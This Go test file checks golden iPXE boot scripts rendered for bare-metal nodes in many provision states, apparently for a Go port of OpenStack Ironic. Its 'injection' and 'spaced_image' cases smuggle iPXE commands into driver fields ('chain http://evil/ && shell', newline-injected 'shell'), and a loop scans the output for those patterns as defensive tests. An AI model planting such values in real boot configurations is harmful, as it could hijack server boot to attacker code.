package pxe

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/goironic/ironic/states"
)

var update = flag.Bool("update", false, "rewrite the iPXE script goldens under testdata/ipxe")

func ptr(i int64) *int64 { return &i }

const nodeUUID = "1be26c0b-03f2-4d2e-ae87-c02d7f33c123"

func bfvNode() ScriptNode {
	return ScriptNode{
		UUID: nodeUUID, ProvisionState: "active", DeployInterface: "direct",
		DriverInternalInfo: map[string]any{"boot_from_volume": "t-boot"},
		VolumeTargets: []VolumeTarget{
			{UUID: "t-data2", VolumeType: "iscsi", BootIndex: ptr(2), Properties: map[string]any{
				"target_portals": []any{"10.0.2.2:5791", "10.0.3.2:3260"}, "target_iqn": "iqn.2010-10.org.openstack:data2", "target_lun": 2,
				"auth_username": "u2", "auth_password": "p2"}},
			{UUID: "t-boot", VolumeType: "iscsi", BootIndex: ptr(0), Properties: map[string]any{
				"target_portal": "10.0.2.2:5790", "target_iqn": "iqn.2010-10.org.openstack:boot", "target_lun": 0,
				"auth_username": "chapuser", "auth_password": "chapsecret"}},
			{UUID: "t-data1", VolumeType: "iscsi", BootIndex: ptr(1), Properties: map[string]any{
				"target_portal": "10.0.2.2", "target_iqns": []any{"iqn.2010-10.org.openstack:data1"}, "target_luns": []any{1},
				"auth_username": "u1", "auth_password": "p1"}},
			{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(3), Properties: map[string]any{}},
		},
		VolumeConnectors: []VolumeConnector{{Type: "ip", ConnectorID: "10.0.2.15"}, {Type: "iqn", ConnectorID: "iqn.2004-10.com.example:node1"}},
	}
}

// fcNode is an active node whose boot volume is Fibre Channel, as a
// deployment with the ipxe boot interface leaves it: no boot_from_volume.
func fcNode() ScriptNode {
	n := bfvNode()
	n.DriverInternalInfo = map[string]any{"is_whole_disk_image": true}
	n.VolumeTargets = []VolumeTarget{{UUID: "t-fc", VolumeType: "fibre_channel", BootIndex: ptr(0), Properties: map[string]any{
		"target_wwn": []any{"500a09808e2b2a1f"}, "target_lun": 0}}}
	n.VolumeConnectors = []VolumeConnector{{Type: "wwpn", ConnectorID: "21000024ff37a4b2"}, {Type: "wwnn", ConnectorID: "20000024ff37a4b2"}}
	return n
}

func TestIPXEScriptGoldens(t *testing.T) {
	cfg := ScriptConfig{HTTPURL: "http://10.0.2.2:5781/", KernelAppendParams: "nofb nomodeset vga=normal", APIURL: "http://10.0.2.2:5780"}
	deployDI := map[string]any{"deploy_kernel": "glance-kernel-uuid", "deploy_ramdisk": "glance-ramdisk-uuid",
		"rescue_kernel": "http://images.example/rescue.kernel", "rescue_ramdisk": "http://images.example/rescue.initramfs"}
	fallback := func(c *ScriptConfig) { c.NetbootFallback = true }
	localNode := ScriptNode{UUID: nodeUUID, ProvisionState: "active", DriverInternalInfo: map[string]any{"is_whole_disk_image": true}}
	cases := map[string]struct {
		cfg  func(*ScriptConfig)
		node ScriptNode
	}{
		"active_bfv_iscsi": {node: bfvNode()},
		// A Fibre Channel boot volume: the ipxe boot interface has no
		// fibre_channel_volume_boot capability, so Ironic records no
		// boot_from_volume and boots the node as a local-boot one.
		"active_bfv_fc":          {node: fcNode()},
		"active_bfv_fc_fallback": {cfg: fallback, node: fcNode()},
		// iSCSI targets without boot_from_volume (added after the
		// deployment, or a boot interface without iscsi_volume_boot):
		// is_iscsi_boot is false, the node boots locally.
		"active_bfv_unrecorded": {cfg: fallback, node: func() ScriptNode { n := bfvNode(); n.DriverInternalInfo = map[string]any{}; return n }()},
		"active_local":          {node: localNode},
		"active_local_fallback": {cfg: fallback, node: localNode},
		"active_netboot": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active",
			InstanceInfo:       map[string]any{"image_source": "http://images.example/part.img", "kernel": "http://images.example/vmlinuz", "ramdisk": "initrd-glance-id", "capabilities": map[string]any{"boot_option": "netboot"}},
			DriverInternalInfo: map[string]any{"root_uuid_or_disk_id": "4b4f5ad2-7e5e-4c2a-a3c5-6a1d8bb0e5c5"}}},
		"active_ramdisk": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
			InstanceInfo: map[string]any{"kernel": "http://images.example/vmlinuz", "ramdisk": "http://images.example/initrd", "ramdisk_kernel_arguments": "console=ttyS0"}}},
		"active_ramdisk_iso": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "ramdisk",
			InstanceInfo: map[string]any{"boot_iso": "http://images.example/live.iso"}}},
		"available":          {node: ScriptNode{UUID: nodeUUID, ProvisionState: "available"}},
		"deploying_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying"}},
		"deploying_conf_defaults": {
			cfg: func(c *ScriptConfig) {
				c.DeployKernel, c.DeployRamdisk = "http://boot.example/ipa.kernel", "http://boot.example/ipa.initramfs"
			},
			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying"}},
		"deploying_timeout_debug": {
			cfg: func(c *ScriptConfig) { c.IPXETimeout, c.Debug = 60, true },
			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: deployDI,
				InstanceInfo: map[string]any{"kernel_append_params": "%default% console=ttyS0,115200n8"}}},
		"injection": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
			DriverInfo: map[string]any{"deploy_kernel": "http://x/k\nshell", "deploy_ramdisk": "http://x/r", "kernel_append_params": "a\r\nchain http://evil/ && shell ; shell"}}},
		// [pxe]ipxe_use_swift with Glance deploy images: no Glance client
		// to make the temporary URLs, so the error script says so; URLs
		// are used as they are.
		"deploying_swift_glance": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
			node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{
				"deploy_kernel": "http://images.example/ipa.kernel", "deploy_ramdisk": "glance://0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11"}}},
		"rescuing_swift_urls": {cfg: func(c *ScriptConfig) { c.IPXEUseSwift = true },
			node: ScriptNode{UUID: nodeUUID, ProvisionState: "rescuing", DriverInfo: deployDI}},
		// The anaconda deploy interface while the installer runs.
		"anaconda_wait_call-back": {cfg: func(c *ScriptConfig) { c.IPXETimeout = 30 }, node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI,
			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
		"anaconda_deploying_repo": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DeployInterface: "anaconda", DriverInfo: deployDI,
			InstanceInfo:       map[string]any{"image_source": "http://mirror.example/9-stream/BaseOS/x86_64/os/", "kernel": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/vmlinuz", "ramdisk": "http://mirror.example/9-stream/BaseOS/x86_64/os/images/pxeboot/initrd.img"},
			DriverInternalInfo: map[string]any{"is_source_a_path": true}}},
		"anaconda_nokernel": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "wait call-back", DeployInterface: "anaconda", DriverInfo: deployDI}},
		// Installed: local boot (Ironic removed the config), not netboot
		// of the installer.
		"anaconda_active": {cfg: fallback, node: ScriptNode{UUID: nodeUUID, ProvisionState: "active", DeployInterface: "anaconda",
			InstanceInfo: map[string]any{"image_source": "0b3c2a3e-9a51-4c6f-9d7f-5b1a4e0e6f11", "kernel": "kernel-glance-id", "ramdisk": "http://images.example/initrd.img"}}},
		// Cleaning an anaconda node runs IPA as any other.
		"anaconda_cleaning": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "cleaning", DeployInterface: "anaconda", DriverInfo: deployDI}},
		"unknown_node":      {},
		"spaced_image": {node: ScriptNode{UUID: nodeUUID, ProvisionState: "deploying",
			DriverInfo: map[string]any{"deploy_kernel": "http://x/k || shell", "deploy_ramdisk": "http://x/r"}}},
	}
	for _, st := range []states.Provision{states.Deploying, states.DeployWait, states.Cleaning, states.CleanWait, states.Inspecting, states.InspectWait, states.Rescuing, states.RescueWait} {
		cases[strings.ReplaceAll(string(st), " ", "_")] = struct {
			cfg  func(*ScriptConfig)
			node ScriptNode
		}{node: ScriptNode{UUID: nodeUUID, ProvisionState: st, DriverInfo: deployDI}}
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			c := cfg
			if tc.cfg != nil {
				tc.cfg(&c)
			}
			s, err := NewScripter(c)
			if err != nil {
				t.Fatal(err)
			}
			var got Script
			if name == "unknown_node" {
				got = s.ErrorScript("no node has a port with MAC address 52:54:00:12:34:56")
			} else {
				got = s.Render(tc.node)
			}
			if !strings.HasPrefix(got.Body, "#!ipxe\n") {
				t.Errorf("body does not start with #!ipxe: %q", got.Body)
			}
			wantProblem := strings.Contains(got.Body, "exit 1")
			if (got.Problem != "") != wantProblem {
				t.Errorf("problem %q for body\n%s", got.Problem, got.Body)
			}
			for _, l := range strings.Split(got.Body, "\n") {
				if strings.HasPrefix(l, "shell") || strings.HasPrefix(l, "chain") || strings.Contains(l, "|| shell") || strings.Contains(l, "&& shell") {
					t.Errorf("injected line %q", l)
				}
			}
			path := filepath.Join("testdata", "ipxe", name+".ipxe")
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(got.Body), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update)", err)
			}
			if string(want) != got.Body {
				t.Errorf("script differs from %s:\n--- got\n%s\n--- want\n%s", path, got.Body, want)
			}
		})
	}
}

func BenchmarkRender(b *testing.B) {
	s, err := NewScripter(ScriptConfig{HTTPURL: "http://10.0.2.2:5781", KernelAppendParams: "nofb", APIURL: "http://10.0.2.2:5780"})
	if err != nil {
		b.Fatal(err)
	}
	n := ScriptNode{UUID: nodeUUID, ProvisionState: "deploying", DriverInfo: map[string]any{"deploy_kernel": "k", "deploy_ramdisk": "r"}}
	b.ReportAllocs()
	for b.Loop() {
		s.Render(n)
	}
}
